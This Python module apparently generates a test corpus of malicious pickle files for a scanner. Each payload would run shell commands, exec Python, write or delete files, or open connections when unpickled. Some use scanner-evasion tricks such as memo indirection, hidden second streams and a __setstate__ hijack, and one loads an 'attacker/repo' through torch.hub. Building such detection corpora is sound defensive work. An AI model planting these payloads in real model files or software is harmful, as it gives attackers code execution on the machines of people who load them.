"""Malicious raw pickle programs, written opcode by opcode (see :mod:`tests.corpus.pickleasm`).

Each entry is one folder holding one pickle file. Every payload would create the entry's canary file if a
victim ever unpickled it; the corpus never does.
"""

from __future__ import annotations

import marshal
from pathlib import Path

from tests.corpus.pickleasm import Asm, Call, Glob, Raw, call_program
from tests.corpus.registry import BuildContext, malicious

PKL = "WW-PKL"


def _write(ctx: BuildContext, folder: Path, data: bytes, name: str = "model.pkl", *, ok: bool = True) -> None:
    ctx.write_pickle(folder / name, data, well_formed=ok)


def _os_system(protocol: int):
    def build(ctx: BuildContext, folder: Path) -> None:
        _write(ctx, folder, call_program(protocol, Glob("os", "system"), ctx.shell()))

    return build


for _proto in range(6):
    malicious(f"pkl_os_system_p{_proto}", "pickle", PKL, f"os.system via REDUCE, protocol {_proto}")(
        _os_system(_proto)
    )


@malicious("pkl_posix_system", "pickle", PKL, "posix.system (what os.system pickles as on Linux)")
def _posix(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("posix", "system"), ctx.shell()))


@malicious("pkl_nt_system", "pickle", PKL, "nt.system (Windows os.system)")
def _nt(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("nt", "system"), ctx.shell()))


@malicious("pkl_os_popen", "pickle", PKL, "os.popen")
def _popen(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(3, Glob("os", "popen"), ctx.shell()))


@malicious("pkl_subprocess_popen", "pickle", PKL, "subprocess.Popen with an argv list")
def _sp_popen(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(4, Glob("subprocess", "Popen"), ctx.argv()))


@malicious("pkl_subprocess_check_output", "pickle", PKL, "subprocess.check_output")
def _sp_check_output(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("subprocess", "check_output"), ctx.argv()))


@malicious("pkl_subprocess_run", "pickle", PKL, "subprocess.run")
def _sp_run(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(5, Glob("subprocess", "run"), ctx.argv()))


@malicious("pkl_builtins_exec", "pickle", PKL, "builtins.exec of Python source")
def _exec(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("builtins", "exec"), ctx.python()))


@malicious("pkl_builtins_eval", "pickle", PKL, "builtins.eval of an __import__ expression")
def _eval(ctx: BuildContext, folder: Path) -> None:
    expr = f"__import__('os').system({ctx.shell()!r})"
    _write(ctx, folder, call_program(4, Glob("builtins", "eval"), expr))


@malicious(
    "pkl_builtins_compile_exec", "pickle", PKL, "builtins.compile then builtins.exec of the code object"
)
def _compile(ctx: BuildContext, folder: Path) -> None:
    code = Call(Glob("builtins", "compile"), (ctx.python(), "<x>", "exec"))
    _write(ctx, folder, call_program(4, Glob("builtins", "exec"), code))


@malicious(
    "pkl_import_then_getattr", "pickle", PKL, "builtins.__import__('os') then builtins.getattr(.., 'system')"
)
def _import_getattr(ctx: BuildContext, folder: Path) -> None:
    module = Call(Glob("builtins", "__import__"), ("os",))
    func = Call(Glob("builtins", "getattr"), (module, "system"))
    _write(ctx, folder, call_program(2, func, ctx.shell()))


@malicious(
    "pkl_getattr_importlib", "pickle", PKL, "builtins.getattr(importlib.import_module('os'), 'system')"
)
def _getattr_importlib(ctx: BuildContext, folder: Path) -> None:
    module = Call(Glob("importlib", "import_module"), ("os",))
    func = Call(Glob("builtins", "getattr"), (module, "system"))
    _write(ctx, folder, call_program(4, func, ctx.shell()))


@malicious(
    "pkl_getattr_module_global", "pickle", PKL, "getattr on a module pushed as a global (os.path -> os)"
)
def _getattr_module_global(ctx: BuildContext, folder: Path) -> None:
    # GLOBAL 'os' 'path' pushes the posixpath module; posixpath.os is the os module.
    os_module = Call(Glob("builtins", "getattr"), (Glob("os", "path"), "os"))
    func = Call(Glob("builtins", "getattr"), (os_module, "system"))
    _write(ctx, folder, call_program(2, func, ctx.shell()))


for _module in ("pathlib", "shutil", "tempfile", "os.path"):
    _tag = _module.replace(".", "_")

    def _reexport(module: str = _module):
        def build(ctx: BuildContext, folder: Path) -> None:
            # STACK_GLOBAL resolves dotted names attribute by attribute: <module>.os is the os module.
            _write(ctx, folder, call_program(4, Glob(module, "os.system"), ctx.shell()))

        return build

    malicious(
        f"pkl_stack_global_{_tag}_os_system",
        "pickle",
        PKL,
        f"STACK_GLOBAL('{_module}', 'os.system') re-export",
    )(_reexport())


@malicious(
    "pkl_stack_global_torch_serialization_os",
    "pickle",
    PKL,
    "STACK_GLOBAL('torch.serialization', 'os.system')",
)
def _torch_reexport(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(4, Glob("torch.serialization", "os.system"), ctx.shell()))


@malicious(
    "pkl_memo_computed_names", "pickle", PKL, "module and name strings stored in the memo, fetched with GET"
)
def _memo_names(ctx: BuildContext, folder: Path) -> None:
    p = Asm(4)
    # Put harmless-looking strings in the memo first, pop them, then build the global from memo reads.
    p.string("collections").put()
    p.pop()
    p.string("os").put()
    p.pop()
    p.string("system").put()
    p.pop()
    p.string("OrderedDict").put()
    p.pop()
    p.get(1).get(2).stack_global()
    p.tuple_of((ctx.shell(),)).reduce()
    _write(ctx, folder, p.finish())


@malicious(
    "pkl_memo_binput_protocol2", "pickle", PKL, "os.system stored with BINPUT and called through BINGET"
)
def _memo_p2(ctx: BuildContext, folder: Path) -> None:
    p = Asm(2)
    p.glob("os", "system")
    p.put()
    p.pop()
    p.dict_of({"weights": [1, 2, 3]})
    p.pop()
    p.get(0)
    p.tuple_of((ctx.shell(),)).reduce()
    _write(ctx, folder, p.finish())


@malicious("pkl_inst_protocol0", "pickle", PKL, "INST opcode (protocol 0) calling os.system")
def _inst(ctx: BuildContext, folder: Path) -> None:
    p = Asm(0)
    p.mark().string(ctx.shell()).inst("os", "system")
    _write(ctx, folder, p.finish())


@malicious("pkl_obj_protocol1", "pickle", PKL, "OBJ opcode (protocol 1) calling os.system")
def _obj(ctx: BuildContext, folder: Path) -> None:
    p = Asm(1)
    p.mark().glob("os", "system").string(ctx.shell()).obj()
    _write(ctx, folder, p.finish())


@malicious("pkl_newobj_popen", "pickle", PKL, "NEWOBJ on subprocess.Popen")
def _newobj(ctx: BuildContext, folder: Path) -> None:
    p = Asm(2)
    p.glob("subprocess", "Popen").tuple_of((ctx.argv(),)).newobj()
    _write(ctx, folder, p.finish())


@malicious("pkl_newobj_ex_popen", "pickle", PKL, "NEWOBJ_EX on subprocess.Popen with kwargs")
def _newobj_ex(ctx: BuildContext, folder: Path) -> None:
    p = Asm(4)
    p.glob("subprocess", "Popen").tuple_of(()).dict_of({"args": ctx.argv()}).newobj_ex()
    _write(ctx, folder, p.finish())


@malicious("pkl_ext_copyreg", "pickle", PKL, "copyreg.add_extension('os','system',n) then EXT1 n")
def _ext(ctx: BuildContext, folder: Path) -> None:
    p = Asm(2)
    p.call(Glob("copyreg", "add_extension"), "os", "system", 0xE7)
    p.pop()
    p.ext(0xE7).tuple_of((ctx.shell(),)).reduce()
    _write(ctx, folder, p.finish())


@malicious("pkl_ext2_copyreg", "pickle", PKL, "copyreg.add_extension then EXT2 (two-byte code)")
def _ext2(ctx: BuildContext, folder: Path) -> None:
    p = Asm(4)
    p.call(Glob("copyreg", "add_extension"), "subprocess", "check_call", 0x1234)
    p.pop()
    p.ext(0x1234).tuple_of((ctx.argv(),)).reduce()
    _write(ctx, folder, p.finish())


@malicious("pkl_pip_main", "pickle", PKL, "pip.main(['install', ...])")
def _pip(ctx: BuildContext, folder: Path) -> None:
    args = ["install", "--no-index", "--target", str(ctx.canary), "definitely-not-a-package"]
    _write(ctx, folder, call_program(2, Glob("pip", "main"), args))


@malicious("pkl_pip_internal_main", "pickle", PKL, "pip._internal.main")
def _pip_internal(ctx: BuildContext, folder: Path) -> None:
    args = ["download", "-d", str(ctx.canary), "definitely-not-a-package"]
    _write(ctx, folder, call_program(4, Glob("pip._internal", "main"), args))


@malicious("pkl_pydoc_locate", "pickle", PKL, "pydoc.locate('os.system') then call the result")
def _pydoc(ctx: BuildContext, folder: Path) -> None:
    func = Call(Glob("pydoc", "locate"), ("os.system",))
    _write(ctx, folder, call_program(2, func, ctx.shell()))


@malicious("pkl_runpy_run_code", "pickle", PKL, "runpy._run_code(source, globals)")
def _runpy_code(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("runpy", "_run_code"), ctx.python(), {}))


@malicious("pkl_runpy_run_path", "pickle", PKL, "runpy.run_path")
def _runpy_path(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(4, Glob("runpy", "run_path"), str(ctx.canary) + ".py"))


@malicious("pkl_importlib_import_module", "pickle", PKL, "importlib.import_module + getattr + call")
def _importlib(ctx: BuildContext, folder: Path) -> None:
    module = Call(Glob("importlib", "import_module"), ("subprocess",))
    func = Call(Glob("builtins", "getattr"), (module, "call"))
    _write(ctx, folder, call_program(2, func, ctx.argv()))


@malicious("pkl_marshal_function_type", "pickle", PKL, "types.FunctionType(marshal.loads(code), {})()")
def _marshal(ctx: BuildContext, folder: Path) -> None:
    code = compile(ctx.python(), "<payload>", "exec")  # compiled, never run
    code_obj = Call(Glob("marshal", "loads"), (marshal.dumps(code),))
    func = Call(Glob("types", "FunctionType"), (code_obj, {}))
    _write(ctx, folder, call_program(4, func))


@malicious("pkl_code_interactive_interpreter", "pickle", PKL, "code.InteractiveInterpreter.runsource")
def _code_ii(ctx: BuildContext, folder: Path) -> None:
    interp = Call(Glob("code", "InteractiveInterpreter"), ())
    _write(
        ctx, folder, call_program(4, Glob("code", "InteractiveInterpreter.runsource"), interp, ctx.python())
    )


@malicious("pkl_timeit", "pickle", PKL, "timeit.timeit(stmt)")
def _timeit(ctx: BuildContext, folder: Path) -> None:
    _write(
        ctx, folder, call_program(2, Glob("timeit", "timeit"), ctx.python(), "pass", Glob("time", "time"), 1)
    )


@malicious("pkl_cprofile_run", "pickle", PKL, "cProfile.run(source)")
def _cprofile(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("cProfile", "run"), ctx.python()))


@malicious("pkl_profile_run", "pickle", PKL, "profile.Profile.runctx via dotted STACK_GLOBAL")
def _profile(ctx: BuildContext, folder: Path) -> None:
    prof = Call(Glob("profile", "Profile"), ())
    _write(ctx, folder, call_program(4, Glob("profile", "Profile.runctx"), prof, ctx.python(), {}, {}))


@malicious("pkl_multiprocessing_spawnv_passfds", "pickle", PKL, "multiprocessing.util.spawnv_passfds")
def _spawnv(ctx: BuildContext, folder: Path) -> None:
    _write(
        ctx,
        folder,
        call_program(2, Glob("multiprocessing.util", "spawnv_passfds"), "/usr/bin/touch", ctx.argv(), ()),
    )


@malicious("pkl_webbrowser_open", "pickle", PKL, "webbrowser.open")
def _webbrowser(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("webbrowser", "open"), "file://" + str(ctx.canary)))


@malicious("pkl_builtins_open_write", "pickle", PKL, "builtins.open(path, 'w') (creates a file)")
def _open(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("builtins", "open"), str(ctx.canary), "w"))


@malicious("pkl_io_open_write", "pickle", PKL, "io.open(path, 'w')")
def _io_open(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(4, Glob("io", "open"), str(ctx.canary), "w"))


@malicious("pkl_shutil_rmtree", "pickle", PKL, "shutil.rmtree")
def _rmtree(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("shutil", "rmtree"), str(ctx.canary) + ".d", True))


@malicious("pkl_socket_create_connection", "pickle", PKL, "socket.create_connection")
def _socket(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("socket", "create_connection"), ("127.0.0.1", 9)))


@malicious("pkl_ctypes_libc_system", "pickle", PKL, "ctypes.CDLL('libc.so.6').system")
def _ctypes(ctx: BuildContext, folder: Path) -> None:
    lib = Call(Glob("ctypes", "CDLL"), ("libc.so.6",))
    func = Call(Glob("builtins", "getattr"), (lib, "system"))
    _write(ctx, folder, call_program(4, func, ctx.shell().encode()))


@malicious("pkl_numpy_runstring", "pickle", PKL, "numpy.testing._private.utils.runstring")
def _runstring(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("numpy.testing._private.utils", "runstring"), ctx.python(), {}))


@malicious("pkl_numpy_f2py_myeval", "pickle", PKL, "numpy.f2py.crackfortran.myeval (calls eval)")
def _myeval(ctx: BuildContext, folder: Path) -> None:
    expr = f"__import__('os').system({ctx.shell()!r})"
    _write(ctx, folder, call_program(2, Glob("numpy.f2py.crackfortran", "myeval"), expr, {}, {}))


@malicious(
    "pkl_numpy_reconstruct_build_payload",
    "pickle",
    PKL,
    "numpy _reconstruct + BUILD whose state holds a call",
)
def _numpy_build(ctx: BuildContext, folder: Path) -> None:
    # An object ndarray rebuilt the way numpy pickles it; the BUILD state's item list holds os.system(...).
    p = Asm(3)
    p.call(Glob("numpy.core.multiarray", "_reconstruct"), Glob("numpy", "ndarray"), (0,), b"b")
    dtype = Call(Glob("numpy", "dtype"), ("O8", False, True))
    payload = Call(Glob("os", "system"), (ctx.shell(),))
    p.tuple_of((1, (1,), dtype, False, [payload]))
    p.build()
    _write(ctx, folder, p.finish())


@malicious(
    "pkl_build_setstate_hijack",
    "pickle",
    PKL,
    "BUILD sets Namespace.__setstate__ = exec, a 2nd BUILD calls it",
)
def _setstate(ctx: BuildContext, folder: Path) -> None:
    p = Asm(2)
    # BUILD on the class with (None, slotstate) does setattr(cls, '__setstate__', builtins.exec).
    p.glob("argparse", "Namespace")
    p.tuple_of((None, {"__setstate__": Glob("builtins", "exec")}))
    p.build()
    p.pop()
    # A new instance's BUILD now calls instance.__setstate__(state) == exec(state).
    p.call(Glob("argparse", "Namespace"))
    p.string(ctx.python())
    p.build()
    _write(ctx, folder, p.finish())


@malicious("pkl_functools_partial", "pickle", PKL, "functools.partial(os.system, cmd)()")
def _partial(ctx: BuildContext, folder: Path) -> None:
    part = Call(Glob("functools", "partial"), (Glob("os", "system"), ctx.shell()))
    _write(ctx, folder, call_program(2, part))


@malicious("pkl_operator_attrgetter", "pickle", PKL, "operator.attrgetter('os.system')(os.path module)")
def _attrgetter(ctx: BuildContext, folder: Path) -> None:
    getter = Call(Glob("operator", "attrgetter"), ("os.system",))
    func = Call(getter, (Glob("os", "path"),))
    _write(ctx, folder, call_program(2, func, ctx.shell()))


@malicious("pkl_operator_methodcaller", "pickle", PKL, "operator.methodcaller('system', cmd)(os module)")
def _methodcaller(ctx: BuildContext, folder: Path) -> None:
    caller = Call(Glob("operator", "methodcaller"), ("system", ctx.shell()))
    module = Call(Glob("builtins", "__import__"), ("os",))
    _write(ctx, folder, call_program(2, caller, module))


def _inner_program(ctx: BuildContext) -> bytes:
    return call_program(2, Glob("os", "system"), ctx.shell())


@malicious("pkl_nested_pickle_loads", "pickle", PKL, "pickle.loads(bytes of a malicious pickle)")
def _nested(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(4, Glob("pickle", "loads"), _inner_program(ctx)))


@malicious("pkl_nested__pickle_loads", "pickle", PKL, "_pickle.loads(bytes of a malicious pickle)")
def _nested_c(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(3, Glob("_pickle", "loads"), _inner_program(ctx)))


@malicious("pkl_nested_twice", "pickle", PKL, "pickle.loads of a pickle.loads of os.system")
def _nested_twice(ctx: BuildContext, folder: Path) -> None:
    middle = call_program(4, Glob("pickle", "loads"), _inner_program(ctx))
    _write(ctx, folder, call_program(4, Glob("_pickle", "loads"), middle))


@malicious("pkl_truncated_after_call", "pickle", PKL, "os.system REDUCE, then the file ends (no STOP)")
def _truncated(ctx: BuildContext, folder: Path) -> None:
    p = Asm(2)
    p.call(Glob("os", "system"), ctx.shell())
    p.raw(b"}q\x01(X\x04\x00\x00\x00wei")  # cut mid-string
    _write(ctx, folder, p.finish(stop=False), ok=False)


@malicious("pkl_parse_error_after_call", "pickle", PKL, "os.system REDUCE then an invalid opcode")
def _bad_opcode(ctx: BuildContext, folder: Path) -> None:
    p = Asm(4)
    p.call(Glob("os", "system"), ctx.shell())
    p.raw(b"\xff\xfe garbage")
    _write(ctx, folder, p.finish(), ok=False)


@malicious("pkl_second_stream", "pickle", PKL, "benign first pickle stream, os.system in the second")
def _two_streams(ctx: BuildContext, folder: Path) -> None:
    first = Asm(2)
    first.dict_of({"epoch": 3, "lr": 0.001})
    second = call_program(2, Glob("os", "system"), ctx.shell())
    _write(ctx, folder, first.finish() + second, ok=False)


@malicious(
    "pkl_third_stream_proto4", "pickle", PKL, "three streams; the third (protocol 4, framed) is malicious"
)
def _three_streams(ctx: BuildContext, folder: Path) -> None:
    a = Asm(4)
    a.integer(1)
    b = Asm(4)
    b.list_of([1.0, 2.0])
    c = call_program(4, Glob("subprocess", "call"), ctx.argv())
    _write(ctx, folder, a.finish() + b.finish() + c, ok=False)


@malicious(
    "pkl_trailing_garbage", "pickle", PKL, "benign program, STOP, then trailing bytes hiding a payload"
)
def _trailing(ctx: BuildContext, folder: Path) -> None:
    first = Asm(2)
    first.dict_of({"weights": [0.5, 0.25]})
    hidden = call_program(2, Glob("os", "system"), ctx.shell())
    _write(ctx, folder, first.finish() + b"\x00\x00JUNK" + hidden, ok=False)


@malicious(
    "pkl_payload_inside_state_dict", "pickle", PKL, "os.system call nested deep inside an OrderedDict value"
)
def _deep(ctx: BuildContext, folder: Path) -> None:
    p = Asm(2)
    inner = {"layer.weight": [0.1, 0.2], "meta": {"note": Call(Glob("os", "system"), (ctx.shell(),))}}
    p.call(Glob("collections", "OrderedDict"), list(inner.items()))
    _write(ctx, folder, p.finish(), "pytorch_model.bin")


@malicious("pkl_protocol5_bytearray_exec", "pickle", PKL, "protocol 5 program with BYTEARRAY8 and exec")
def _p5(ctx: BuildContext, folder: Path) -> None:
    p = Asm(5)
    p.raw(b"\x96" + (4).to_bytes(8, "little") + b"\x00\x01\x02\x03")  # BYTEARRAY8
    p.pop()
    p.call(Glob("builtins", "exec"), ctx.python())
    _write(ctx, folder, p.finish())


@malicious(
    "pkl_raw_global_opcode_p0_exec", "pickle", PKL, "protocol 0 GLOBAL __builtin__.exec (py2 module name)"
)
def _p0_builtin(ctx: BuildContext, folder: Path) -> None:
    # Python 3's unpickler maps __builtin__ to builtins (fix_imports).
    _write(
        ctx, folder, call_program(0, Glob("__builtin__", "eval"), f"__import__('os').system({ctx.shell()!r})")
    )


@malicious("pkl_raw_bytes_via_raw", "pickle", PKL, "GLOBAL written with odd whitespace-free opcode bytes")
def _raw(ctx: BuildContext, folder: Path) -> None:
    # A hand-written protocol-2 program without PROTO header is still loadable.
    data = Raw(b"csubprocess\ngetoutput\n")
    p = Asm(1)
    p.call(data, ctx.shell())
    _write(ctx, folder, p.finish())


@malicious(
    "pkl_stack_global_name_from_call",
    "pickle",
    PKL,
    "STACK_GLOBAL whose module name is built by operator.add",
)
def _computed_module(ctx: BuildContext, folder: Path) -> None:
    p = Asm(4)
    p.call(Glob("operator", "add"), "o", "s")
    p.string("system").stack_global()
    p.tuple_of((ctx.shell(),)).reduce()
    _write(ctx, folder, p.finish())


@malicious("pkl_builtins_dict_get", "pickle", PKL, "builtins.dict.get(builtins.__dict__, 'exec') then call")
def _dict_get(ctx: BuildContext, folder: Path) -> None:
    func = Call(Glob("builtins", "dict.get"), (Glob("builtins", "__dict__"), "exec"))
    _write(ctx, folder, call_program(4, func, ctx.python()))


@malicious(
    "pkl_nested_via_codecs_encode", "pickle", PKL, "pickle.loads(_codecs.encode(latin-1 text, 'latin1'))"
)
def _nested_codecs(ctx: BuildContext, folder: Path) -> None:
    # Protocol 2 has no bytes opcode; pickle itself writes bytes as _codecs.encode(str, 'latin1').
    inner = _inner_program(ctx).decode("latin-1")
    payload = Call(Glob("_codecs", "encode"), (inner, "latin1"))
    _write(ctx, folder, call_program(2, Glob("pickle", "loads"), payload))


@malicious(
    "pkl_torch_load_from_bytes", "pickle", PKL, "torch.storage._load_from_bytes(bytes of a malicious pickle)"
)
def _torch_from_bytes(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(4, Glob("torch.storage", "_load_from_bytes"), _inner_program(ctx)))


@malicious("pkl_torch_hub_load", "pickle", PKL, "torch.hub.load of a remote repository (runs its hubconf.py)")
def _torch_hub(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("torch.hub", "load"), "attacker/repo", "model", True))


@malicious(
    "pkl_numpy_load_allow_pickle", "pickle", PKL, "numpy.load(path, allow_pickle=True) of a planted file"
)
def _np_load(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("numpy", "load"), str(ctx.canary) + ".npy", None, True))


@malicious("pkl_sys_modules_lookup", "pickle", PKL, "operator.getitem(sys.modules, 'os') then getattr system")
def _sys_modules(ctx: BuildContext, folder: Path) -> None:
    module = Call(Glob("operator", "getitem"), (Glob("sys", "modules"), "os"))
    func = Call(Glob("builtins", "getattr"), (module, "system"))
    _write(ctx, folder, call_program(2, func, ctx.shell()))


@malicious(
    "pkl_py2_commands_getoutput",
    "pickle",
    PKL,
    "Python 2 name 'commands.getoutput' (unpickler maps it to subprocess)",
)
def _py2_commands(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("commands", "getoutput"), ctx.shell()))


@malicious(
    "pkl_py2_cpickle_loads",
    "pickle",
    PKL,
    "Python 2 name 'cPickle.loads' (-> pickle.loads) of a malicious pickle",
)
def _py2_cpickle(ctx: BuildContext, folder: Path) -> None:
    inner = _inner_program(ctx).decode("latin-1")
    _write(
        ctx,
        folder,
        call_program(2, Glob("cPickle", "loads"), Call(Glob("_codecs", "encode"), (inner, "latin1"))),
    )


@malicious(
    "pkl_py2_urllib2_urlopen", "pickle", PKL, "Python 2 name 'urllib2.urlopen' (-> urllib.request.urlopen)"
)
def _py2_urllib2(ctx: BuildContext, folder: Path) -> None:
    _write(ctx, folder, call_program(2, Glob("urllib2", "urlopen"), "http://127.0.0.1:9/" + ctx.name))
